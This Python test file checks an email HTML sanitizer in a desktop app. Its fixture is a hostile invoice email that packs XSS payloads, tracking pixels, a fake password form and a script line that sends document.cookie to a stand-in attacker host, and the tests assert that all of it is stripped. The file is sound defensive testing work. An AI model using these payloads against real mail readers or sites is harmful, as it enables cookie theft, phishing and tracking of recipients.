"""Hostile HTML mail: nothing that runs, submits or fetches survives sanitising."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from fidus_desktop.google.html_safety import link_target, resource_allowed, sanitize_mail_html, text_as_html
from fidus_desktop.google.mail_parse import parse_message

HOSTILE = """<html><head><title>Invoice</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">
<style>body { background: url(http://evil.example/bg.png) } @import url(http://evil.example/i.css);</style>
<script>fetch('http://evil.example/steal?c='+document.cookie)</script></head>
<body onload="alert(1)">
<p style="color: red; background-image: url('http://track.example/p.gif'); width: expression(alert(1))"
   onclick="steal()" onmouseover="steal()">Dear client, your <b>statement</b> is ready.</p>
<p style="background: u\\72l(http://track.example/escaped.gif)">escaped url</p>
<a href="javascript:alert(document.domain)">pay now</a>
<a href=" JaVaScRiPt:alert(1)">pay again</a>
<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
<a href="https://fidus.example/statements?id=7">the real statement</a>
<img src="https://track.example/open.gif?u=42" width="1" height="1">
<img src="//track.example/scheme-relative.gif"> <img src="/relative.gif">
<img src="cid:logo@fidus"> <img src="data:image/png;base64,iVBORw0KGgo=">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"> <img src="x" onerror="alert(1)">
<form action="https://evil.example/login" method="post"><input type="password" name="p">
<select><option>choice</option></select><textarea>typed secret</textarea><button>Log in</button></form>
<iframe src="https://evil.example/frame">frame fallback</iframe><frameset><frame src="x"></frameset>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text>svg</text></a></svg>
<math><mi xlink:href="javascript:alert(3)">m</mi></math>
<table background="https://track.example/table.gif"><tr><td background="https://track.example/td.gif"
 style="background:url(https://track.example/cell.gif)">cell</td></tr></table>
<video src="https://evil.example/v.mp4" poster="https://track.example/poster.gif"></video>
<audio src="https://evil.example/a.mp3"></audio><source src="https://evil.example/s.mp4">
<img srcset="https://track.example/1x.gif 1x, https://track.example/2x.gif 2x">
<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">binding</div>
<!--[if mso]><img src="https://track.example/mso.gif"><![endif]-->
</body></html>"""


def test_hostile_mail_keeps_its_text_and_loses_everything_active_or_remote():
    safe = sanitize_mail_html(HOSTILE)
    out = safe.html.lower()
    for needle in ("<script", "onload", "onclick", "onmouseover", "onerror", "javascript:", "vbscript:",
                   "<form", "<input", "<button", "<textarea", "<select", "<iframe", "<frame", "<object", "<embed",
                   "<svg", "<math", "<style", "<link", "<meta", "<base", "<video", "<audio", "<source", "srcset",
                   "url(", "expression", "background=", "behavior:", "-moz-binding", "data:text", "svg+xml",
                   "track.example", "evil.example", "typed secret", "document.cookie", "\\72"):
        assert needle not in out, needle
    assert "your <b>statement</b> is ready." in safe.html
    assert 'href="https://fidus.example/statements?id=7"' in safe.html
    assert 'src="cid:logo@fidus"' in safe.html and "data:image/png;base64," in safe.html
    assert "color:red" in safe.html.replace(" ", "")
    assert safe.blocked_remote >= 4  # the pixel, the styled backgrounds: the view shows the remote-content bar
    assert safe.cid_refs == {"logo@fidus"}


def test_remote_images_come_back_only_when_allowed():
    safe = sanitize_mail_html(HOSTILE, allow_remote=True)
    assert 'src="https://track.example/open.gif?u=42"' in safe.html
    assert "javascript:" not in safe.html and "<script" not in safe.html and "url(" not in safe.html


def test_the_reader_loads_only_resolved_cid_and_data_images():
    resolved = {"logo@fidus"}
    assert resource_allowed("cid:logo@fidus", resolved)
    assert resource_allowed("cid:%3Clogo@FIDUS%3E", resolved)
    assert not resource_allowed("cid:other@fidus", resolved)
    assert resource_allowed("data:image/png;base64,iVBORw0KGgo=", resolved)
    assert not resource_allowed("data:image/svg+xml;base64,PHN2Zz4=", resolved)
    assert not resource_allowed("data:text/html,<b>x</b>", resolved)
    for url in ("https://track.example/p.gif", "http://x/y.png", "file:///C:/Windows/win.ini", "qrc:/x.png",
                "//track.example/a.gif", "relative.png", "javascript:alert(1)", "ftp://x/y"):
        assert not resource_allowed(url, resolved), url
    assert resource_allowed("https://track.example/p.gif", resolved, allow_remote=True)
    assert link_target(" https://fidus.example/x ") == "https://fidus.example/x"
    assert link_target("javascript:alert(1)") is None and link_target("file:///etc/passwd") is None


def test_plain_text_bodies_are_escaped_with_links():
    html = text_as_html("See <b>this</b>: https://fidus.example/a?b=1\nthanks")
    assert "&lt;b&gt;" in html and '<a href="https://fidus.example/a?b=1">' in html


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>=\"' /:;()\\abcdefghijklmnopqrstuvwxyz-&#0123456789")), max_size=300))
def test_no_input_yields_handlers_or_scripts(fragment):
    for html in (fragment, f"<div {fragment}>x</div>", f"<a href='{fragment}'>x</a>", f"<p style='{fragment}'>y</p>"):
        out = sanitize_mail_html(html).html.lower()
        assert "<script" not in out and "javascript:" not in out and "url(" not in out
        assert not re.search(r"<[^>]*\son[a-z]+\s*=", out)


@settings(max_examples=100, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                        st.sampled_from(["id", "payload", "parts", "body", "data", "headers", "name", "value",
                                         "mimeType", "filename", "internalDate", "labelIds", "attachmentId",
                                         "size", "partId"]), inner, max_size=5), max_leaves=30))
def test_a_malformed_gmail_message_never_raises(data):
    message = parse_message(data if isinstance(data, dict) else {"payload": data})
    assert isinstance(message.subject, str) and isinstance(message.attachments, tuple)


def test_absurd_nesting_is_unwrapped_and_its_text_kept():
    from fidus_desktop.google.html_safety import RENDER_DEPTH, limit_depth

    hostile = "<div>" * 20_000 + "<b>deep text</b>" + "</div>" * 20_000 + "<p>after"
    safe = sanitize_mail_html(hostile).html
    assert "deep text" in safe and "after" in safe
    depth = deepest = 0
    for tag in re.findall(r"</?div", safe):
        depth += 1 if tag == "<div" else -1
        deepest = max(deepest, depth)
    assert deepest <= RENDER_DEPTH
    # A real mail's structure is left as it is, unclosed list items included.
    mail = "<table><tr><td><div><ul>" + "<li>item" * 500 + "</ul></div></td></tr></table>"
    assert limit_depth(mail, 8) == mail
    # Malformed input stays linear and never loses text.
    assert limit_depth("</b><div><i>x</b>y" * 3, 2).count("x") == 3
